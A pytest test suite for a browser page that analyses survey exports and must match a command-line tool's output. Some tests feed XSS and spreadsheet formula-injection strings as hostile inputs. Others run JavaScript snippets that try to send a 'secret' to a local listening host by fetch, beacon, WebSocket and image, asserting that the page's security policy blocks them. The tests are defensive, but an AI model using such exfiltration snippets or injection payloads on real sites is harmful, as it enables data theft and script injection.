"""The page *Analyse a survey here*: the command's bytes out of a browser, and nothing into the network."""

import csv
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
import yaml
from axe_playwright_python.sync_playwright import Axe
from conftest import ROOT
from visits import Visit, in_a_browser

from softpower.site.browser import engine, fetch, policy

pytestmark = [
    *in_a_browser,
    pytest.mark.skipif(
        fetch.package() is None, reason="Python for the browser was not fetched: its page was NOT tested"
    ),
]
PAGE = "chapters/analyse-a-survey.html"
RUSSIAN = ROOT / "tests/data/survey-exports/ru-forms-freq.csv"
EXPORTS = ROOT / "data/synthetic/exports"
GROUP = "Which city do you live in?"


def state(page, *wanted: str, seconds: float = 120) -> str:
    """Waits until the page is in one of these states, and returns what it then says."""
    inside = ", ".join(f"#status[data-state={one}]" for one in (*wanted, "error"))
    page.wait_for_selector(inside, timeout=seconds * 1000)
    said = page.inner_text("#status")
    assert page.get_attribute("#status", "data-state") in wanted, said
    return said


def stumbling(page) -> list[tuple[str, str]]:
    """What axe finds on the page with all folds open."""
    page.evaluate("document.querySelectorAll('#survey details').forEach(fold => { fold.open = true; })")
    options = {"resultTypes": ["violations"], "rules": {"target-size": {"enabled": True}}}
    found = Axe().run(page, options=options).response["violations"]
    return [(fault["id"], node["html"][:120]) for fault in found for node in fault["nodes"]]


KEPT = """window.blobs = new Map(); const make = URL.createObjectURL;
URL.createObjectURL = (blob) => { const address = make.call(URL, blob); blobs.set(address, blob); return address; };"""
CONTENTS = """async () => Object.fromEntries(await Promise.all([...document.querySelectorAll('#report .sp-files a')].map(async (link) =>
  [link.download, await blobs.get(link.href).text()])))"""


class Survey(Visit):
    """The page with a file that was analysed."""

    def __init__(self, browser, site, served, path, language="en", width=1440, **choices):
        context = browser.new_context(viewport={"width": width, "height": 844}, accept_downloads=True)
        context.add_init_script(KEPT)
        super().__init__(context, site, served, f"{PAGE}?lang={language}", scroll=False)
        assert self.page.get_attribute("#status", "data-state") == "idle"
        assert not self.python()  # nothing of it is loaded before a file is chosen
        self.page.set_input_files("#file", path)
        self.said = state(self.page, "ready")
        for name, value in choices.items():
            field = self.page.locator(f"#choose-{name}")
            field.select_option(value) if field.evaluate(
                "field => field.tagName"
            ) == "SELECT" else field.fill(value)

    def python(self) -> list[str]:
        return [url for url in self.asked if re.search(r"/python-[0-9a-f]{12}/", url)]

    def analyse(self) -> dict[str, bytes]:
        """The files that the page offers: the content of its links; one of them is saved as a reader saves it."""
        self.page.click("#analyse")
        state(self.page, "done")
        out = {name: text.encode() for name, text in self.page.evaluate(CONTENTS).items()}
        with self.page.expect_download() as download:
            self.page.click("#report a[download='items.csv']")
        assert Path(download.value.path()).read_bytes() == out["items.csv"]
        with self.page.expect_download() as download:
            self.page.click("#report a[download='survey-report.zip']")
        with zipfile.ZipFile(download.value.path()) as archive:
            assert {name: archive.read(name) for name in archive.namelist()} == out
        return out


def by_command(folder: Path, source: Path, *options: str) -> dict[str, bytes]:
    """The same by the command, in a folder of its own."""
    folder.mkdir()
    (folder / source.name).write_bytes(source.read_bytes())
    run = [sys.executable, "-m", "softpower", "survey"]
    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
    subprocess.run(
        [*run, "init", source.name, "--out", "."], cwd=folder, env=environment, capture_output=True
    )
    subprocess.run(
        [*run, "responses.csv", "codebook.csv", "--out", "report", *options], cwd=folder, env=environment, check=True, capture_output=True
    )  # fmt: skip
    found = [folder / name for name in ("codebook.csv", "responses.csv", "notes.md")]
    return {path.name: path.read_bytes() for path in [*found, *(folder / "report").iterdir()]}


CASES = {
    "Russian words": (RUSSIAN, "ru", {}, ["--language=ru"]),
    "a group, cut points, a title": (
        EXPORTS / "google-forms.csv",
        "en",
        {"group": GROUP, "sample": "volunteers", "title": "Films & <news>", "low": "2.5", "high": "3.5"},
        [f"--group={GROUP}", "--sample=volunteers", "--title=Films & <news>", "--low=2.5", "--high=3.5"],
    ),
    "a workbook, in Kazakh": (EXPORTS / "kobotoolbox.xlsx", "kk", {}, ["--language=kk"]),
}


@pytest.mark.parametrize("case", CASES)
def test_every_file_has_the_bytes_that_the_command_writes(browser, site, served, tmp_path, case):
    source, language, choices, options = CASES[case]
    survey = Survey(browser, site, served, source, language, **choices)
    files = survey.analyse()
    expected = by_command(tmp_path / "by-command", source, *options)
    assert sorted(files) == sorted(expected)
    assert [name for name in files if files[name] != expected[name]] == []
    assert len(files["items.csv"].splitlines()) > 5
    assert survey.complaints() == []  # no request to another host, and none that the policy refused
    assert survey.page.evaluate("[localStorage, sessionStorage].flatMap(s => Object.keys(s))") in (
        [],
        ["theme", "mode"],
    )  # the theme's own
    if case == "Russian words":
        assert "Никогда".encode() in files["items.csv"]
        assert survey.page.inner_text("#report h2") == "Отчёт"
        frame = survey.page.frame_locator("#report iframe")
        assert "Как часто?" in frame.locator("body").inner_text()


def test_what_is_corrected_in_the_form_is_what_is_computed(browser, site, served, tmp_path):
    source = EXPORTS / "google-forms.csv"
    survey = Survey(browser, site, served, source)
    survey.page.check("[name=reverse-0]")
    survey.page.fill("[name=scale-6]", "=recommend")
    files = survey.analyse()
    with_command = by_command(tmp_path / "by-command", source)
    changed = list(csv.DictReader(files["codebook.csv"].decode().splitlines()))
    before = list(csv.DictReader(with_command["codebook.csv"].decode().splitlines()))
    assert [row["reverse"] for row in changed] == ["yes", *(row["reverse"] for row in before[1:])]
    assert [row["item"] for row in changed] == [row["item"] for row in before]
    assert b"'=recommend" in files["scales.csv"]  # no formula for a spreadsheet
    assert files["scales.csv"] != with_command["scales.csv"]


STATEMENTS = (
    "Мне близки фильмы России",
    "Мне близки песни России",
    "России можно верить",
    "С Россией безопасно",
)
AGREEMENT = [
    "Полностью не согласен",
    "Скорее не согласен",
    "Трудно сказать",
    "Скорее согласен",
    "Полностью согласен",
]


@pytest.fixture
def unsure(tmp_path):
    """An export with an answer that may be the middle, of statements that nothing in the file puts together."""
    path = tmp_path / "unsure.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        out = csv.writer(file)
        out.writerow(["Отметка времени", *STATEMENTS])
        for row in range(60):
            answers = [AGREEMENT[(row * k + row // 7) % 5] for k in (1, 2, 3, 4)]
            out.writerow([f"2026/10/01 {row // 6:02d}:{row % 6}0:00", *answers])
    return path


def test_a_click_answers_what_may_be_the_middle_and_what_belongs_together(
    browser, site, served, tmp_path, unsure
):
    survey = Survey(browser, site, served, unsure, "ru", width=390)
    page = survey.page
    assert "Остались вопросы" in survey.said and page.locator("#book ol li").count() == 0
    page.get_by_label("Ответ «Трудно сказать» встречается в пунктах: 4").select_option("middle")
    for first, name in ((0, "Культура"), (2, "Доверие")):
        for statement in STATEMENTS[first : first + 2]:
            page.get_by_label(statement).first.check()
        page.fill("#together-name", name)
        page.keyboard.press("Enter")
        assert page.inner_text("#together output") == f"Теперь в шкале «{name}»: 2."
    assert page.locator("#together li").first.inner_text().endswith("→ Культура")
    assert stumbling(page) == [] and page.evaluate("document.documentElement.scrollWidth") == 390
    page.locator("#against").get_by_label(STATEMENTS[1]).check()
    files = survey.analyse()
    scales = list(csv.DictReader(files["scales.csv"].decode().splitlines()))
    assert [row["scale"] for row in scales] == ["Культура", "Доверие"] and {row["n"] for row in scales} == {
        "60"
    }
    lines = list(csv.DictReader(files["codebook.csv"].decode().splitlines()))
    assert [row["reverse"] for row in lines] == ["no", "yes", "no", "no"]
    assert {(row["labels"], row["highest"], row["missing"]) for row in lines} == {
        ("|".join(AGREEMENT), "5", "")
    }
    folder = tmp_path / "by-command"  # the command's bytes for this codebook
    folder.mkdir()
    for name in ("responses.csv", "codebook.csv"):
        (folder / name).write_bytes(files[name])
    run = [sys.executable, "-m", "softpower", "survey", "responses.csv", "codebook.csv", "--out", "report"]
    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
    subprocess.run([*run, "--language=ru"], cwd=folder, env=environment, check=True, capture_output=True)
    for path in (folder / "report").iterdir():
        assert files[path.name] == path.read_bytes(), path.name


def test_an_answer_is_taken_back_and_nothing_is_put_together_by_halves(browser, site, served, unsure):
    page = Survey(browser, site, served, unsure).page
    fields = lambda: page.evaluate("[...document.querySelectorAll('#book [name$=\"-0\"]')].map(f => f.value)")  # noqa: E731
    drafted = fields()
    middle = page.get_by_label("“Трудно сказать” was given with 4 statements")
    middle.select_option("middle")
    assert "|".join(AGREEMENT) in fields()
    middle.select_option("")
    assert fields() == drafted
    page.get_by_label(STATEMENTS[0]).first.check()
    page.fill("#together-name", "one alone")
    page.click("#together button")
    assert "two statements at least" in page.inner_text("#together output") and fields() == drafted


def test_a_codebook_of_ones_own(browser, site, served, tmp_path):
    synthetic = ROOT / "data/synthetic"
    context = browser.new_context(accept_downloads=True)
    visit = Visit(context, site, served, PAGE, scroll=False)
    visit.page.click("summary:has-text('I have a codebook')")
    visit.page.set_input_files("#codebook", synthetic / "survey-codebook.csv")
    visit.page.set_input_files("#file", synthetic / "survey-responses.csv")
    state(visit.page, "ready")
    visit.page.click("#analyse")
    state(visit.page, "done")
    with visit.page.expect_download() as download:
        visit.page.click("#report a[download='scales.csv']")
    out = tmp_path / "report"
    command = [
        sys.executable,
        "-m",
        "softpower",
        "survey",
        synthetic / "survey-responses.csv",
        synthetic / "survey-codebook.csv",
    ]
    subprocess.run(
        [*command, "--out", out], check=True, capture_output=True, env={**os.environ, "PYTHONPATH": str(ROOT)}
    )
    assert Path(download.value.path()).read_bytes() == (out / "scales.csv").read_bytes()


WORDING = "<img src=x onerror=window.broken=1> I like it"
HOSTILE = {
    "codebook.csv": "item,wording,scale,reverse,lowest,highest,missing\n"
    + "".join(f"q{i},{WORDING},=1+{i % 2},no,1,5,\n" for i in range(4)),
    "responses.csv": "respondent,city,q0,q1,q2,q3\n"
    + "".join(
        f"r{i},{('<script>window.broken=1</script>', '=cmd|x')[i % 2]},{i % 5 + 1},{i % 4 + 1},{i % 3 + 1},{i % 5 + 1}\n"
        for i in range(30)
    ),
}


def test_answers_never_become_markup_or_formulas(browser, site, served, tmp_path):
    for name, text in HOSTILE.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    context = browser.new_context(accept_downloads=True)
    context.add_init_script(KEPT)
    visit = Visit(context, site, served, PAGE, scroll=False)
    page = visit.page
    page.click("summary:has-text('I have a codebook')")
    page.set_input_files("#codebook", tmp_path / "codebook.csv")
    page.set_input_files("#file", tmp_path / "responses.csv")
    state(page, "ready")
    assert page.inner_text("#item-0") == WORDING
    page.select_option("#choose-group", "city")
    page.click("#analyse")
    state(page, "done")
    frame = page.query_selector("#report iframe").content_frame()
    text = frame.inner_text("body")
    assert "<script>window.broken=1</script>" in text and WORDING in text
    assert (
        frame.query_selector("script, img") is None
        and page.query_selector("#survey :is(img, script)") is None
    )
    assert page.evaluate("window.broken") is None
    files = page.evaluate(CONTENTS)
    cells = [cell for name in TABLES for row in csv.reader(files[name].splitlines()) for cell in row]
    assert "'=cmd|x" in cells and [cell for cell in cells if cell.startswith(("=", "@", "\t"))] == []
    assert visit.complaints() == []


TABLES = (
    "items.csv",
    "scales.csv",
    "bands.csv",
    "groups.csv",
    "reliability.csv",
    "statements.csv",
    "differences.csv",
    "missing.csv",
)


def test_what_cannot_be_read_here_is_told_with_what_to_do(browser, site, served, tmp_path):
    visit = Visit(browser.new_context(), site, served, PAGE, scroll=False)
    page = visit.page

    def refused(path) -> str:
        page.set_input_files("#file", path)
        page.wait_for_selector("#status[data-state=error]", timeout=120_000)
        assert page.is_disabled("#analyse")
        return page.inner_text("#status")

    assert "python -m softpower survey init spss.sav --out mine" in refused(EXPORTS / "spss.sav")
    large = tmp_path / "large.csv"
    large.write_bytes(b"a,b\n" + b"1,2\n" * 5_500_000)
    assert "takes up to 20" in refused(large)
    assert not [
        url for url in visit.asked if "/python-" in url and "python-here" not in url
    ]  # so far without Python
    assert "no column with answers of a scale" in refused(ROOT / "tests/data/survey-exports/only-text.csv")
    page.set_input_files("#file", RUSSIAN)  # and the page goes on
    state(page, "ready")


def test_cancel_and_clear_leave_nothing(browser, site, served, tmp_path):
    path = tmp_path / "many.csv"
    rows = "".join(
        f"{i}," + ",".join(str((i * k) % 5 + 1) for k in range(3, 23)) + "\n" for i in range(30_000)
    )
    path.write_text("id," + ",".join(f"q{k}" for k in range(1, 21)) + "\n" + rows)
    visit = Visit(browser.new_context(), site, served, PAGE, scroll=False)
    page = visit.page
    page.set_input_files("#file", path)
    page.wait_for_selector("#status[data-state=loading]")
    page.click("#cancel")
    assert page.get_attribute("#status", "data-state") == "idle" and "Cancelled" in page.inner_text("#status")
    page.set_input_files("#file", RUSSIAN)
    state(page, "ready")
    page.click("#analyse")
    state(page, "done")
    page.click("#clear")
    assert page.get_attribute("#status", "data-state") == "idle"
    assert page.inner_text("#report") == "" and page.inner_text("#book") == ""
    assert page.evaluate("document.getElementById('file').files.length") == 0


def test_the_keyboard_is_enough_and_nothing_stumbles(browser, site, served):
    survey = Survey(browser, site, served, RUSSIAN, width=390)
    page = survey.page
    page.focus("#analyse")
    page.keyboard.press("Enter")
    state(page, "done")
    assert page.evaluate("document.activeElement.id") == "report"  # the next tab stop is the first file
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.download") == "survey-report.zip"
    assert page.evaluate("document.documentElement.scrollWidth") == 390
    assert stumbling(page) == []


# ---- private by construction ---------------------------------------------------------------------------------

SEND = {
    "fetch": "await fetch('http://{host}/?secret', {{mode: 'no-cors'}})",
    "beacon": "if (!navigator.sendBeacon('http://{host}/?secret', 'secret')) throw new Error('refused')",
    "socket": "await new Promise((yes, no) => {{ const s = new WebSocket('ws://{host}/'); s.onopen = yes; s.onerror = () => no(new Error('refused')); }})",
    "picture": "await new Promise((yes, no) => {{ const i = new Image(); i.onload = yes; i.onerror = () => no(new Error('refused')); i.src = 'http://{host}/?secret'; }})",
}
WORKER = """async ([code, base]) => {
  const source = `const BASE = '${base}'; onmessage = async () => { try { ${code}; postMessage('sent'); } catch (e) { postMessage('refused'); } };`;
  const worker = new Worker(URL.createObjectURL(new Blob([source], {type: 'text/javascript'})));
  return new Promise(done => { worker.onmessage = event => done(event.data); worker.postMessage(1); });
}"""


@pytest.mark.parametrize("way", SEND)
@pytest.mark.parametrize("page_name", [PAGE, "chapters/check-a-figure.html"])
def test_nothing_can_be_sent_out(browser, site, served, other_host, page_name, way):
    """From the page, and from a worker that is started as Python's is; the other host does listen."""
    visit = Visit(browser.new_context(), site, served, page_name, scroll=False)
    code = SEND[way].format(host=other_host.address)
    tried = f"async () => {{ try {{ {code}; return 'sent'; }} catch (fault) {{ return 'refused'; }} }}"
    assert (
        visit.page.evaluate(tried) == "refused" or way == "beacon"
    )  # a beacon is accepted, and then not sent
    if way in ("fetch", "socket"):
        assert visit.page.evaluate(WORKER, [code, served]) == "refused"
    visit.page.wait_for_timeout(200)
    assert other_host.heard == []


def test_the_same_is_sent_where_no_policy_forbids_it(browser, site, served, other_host):
    """The test above can fail: another page of the book has no such policy, and the host hears it."""
    visit = Visit(browser.new_context(), site, served, "chapters/your-own-survey.html", scroll=False)
    visit.page.evaluate(f"async () => {{ {SEND['fetch'].format(host=other_host.address)} }}")
    assert other_host.heard


def test_pythons_own_thread_cannot_send(browser, site, served, other_host):
    survey = Survey(browser, site, served, RUSSIAN)
    [worker] = survey.page.workers
    for asked in (
        f"fetch('http://{other_host.address}/')",
        f"plain('http://{other_host.address}/', {{mode: 'no-cors'}})",
    ):
        assert (
            worker.evaluate(
                f"async () => {{ try {{ await {asked}; return 'sent'; }} catch (fault) {{ return 'refused'; }} }}"
            )
            == "refused"
        )
    assert other_host.heard == []


@pytest.fixture
def other_host():
    import http.server
    import threading

    class Listening(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.server.heard.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listening)
    server.heard, server.address = [], f"127.0.0.1:{server.server_port}"
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()


# ---- the engine ----------------------------------------------------------------------------------------------


def test_the_policy_allows_no_script_but_the_pages_own(site):
    for name in (PAGE, "chapters/check-a-figure.html"):
        page = (site / name).read_text("utf-8")
        [found] = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"', page)
        assert found == policy.text(page)
        parts = dict(part.split(" ", 1) for part in found.split("; "))
        assert (
            parts["default-src"] == "'none'"
            and parts["connect-src"] == "'self'"
            and parts["worker-src"] == "blob:"
        )
        assert "'unsafe-inline'" not in parts["script-src"] and "http" not in found
        assert page.index("Content-Security-Policy") < page.index("<script")


def test_the_engine_is_made_anew_with_the_same_bytes_and_carries_its_licence():
    raw = fetch.package()
    one, other = engine._make(raw), engine._make(raw)
    assert one == other
    licence = one["LICENSE.txt"].decode()
    assert "Mozilla Public License Version 2.0" in licence and fetch.SOURCE in licence
    assert sum(map(len, one.values())) < 6_500_000


def test_the_site_holds_the_engine_and_no_page_loads_it_at_once(site, pages):
    [folder] = [path for path in site.glob("python-*") if path.is_dir()]
    assert {path.name for path in folder.iterdir()} >= {
        "LICENSE.txt",
        "worker.js",
        "pyodide.asm.wasm.gz",
        "softpower.zip",
    }
    loading = [
        (name, str(tag))
        for name, soup in pages.items()
        for tag in soup.find_all(["script", "link"])
        if folder.name in str(tag)
    ]
    assert loading == []


def test_another_file_in_the_packages_place_stops_the_build(tmp_path, monkeypatch):
    other = tmp_path / "pyodide.tgz"
    other.write_bytes(b"not it")
    monkeypatch.setenv("SOFTPOWER_PYODIDE", str(other))
    with pytest.raises(fetch.NotThePackage, match="not 6749b10e"):
        fetch.package()


def test_without_the_package_the_book_builds_and_both_pages_say_so(
    small_copy, builder, tmp_path, monkeypatch, browser
):
    for name in ("analyse-a-survey", "check-a-figure"):
        (small_copy / f"chapters/{name}.md").write_text(
            f"# A tool\n\nWhat it does.\n\n```{{{name}}}\n```\n", encoding="utf-8"
        )
    path = small_copy / "_toc.yml"
    toc = yaml.safe_load(path.read_text("utf-8"))
    toc["parts"][0]["chapters"] += [
        {"file": "chapters/analyse-a-survey"},
        {"file": "chapters/check-a-figure"},
    ]
    path.write_text(yaml.safe_dump(toc, sort_keys=False), "utf-8")
    pages = builder.site(small_copy, tmp_path / "out", SOFTPOWER_PYODIDE=str(tmp_path / "nothing.tgz"))
    assert not list(pages.glob("python-*"))
    text = (pages / "chapters/analyse-a-survey.html").read_text("utf-8")
    assert "was built without Python for the browser" in text and "survey init FILE" in text
    page = browser.new_page()
    page.goto(f"file://{pages}/chapters/check-a-figure.html?kind=share&printed=35.6&n=149")
    assert "one count gives it, 53" in page.inner_text("#result")
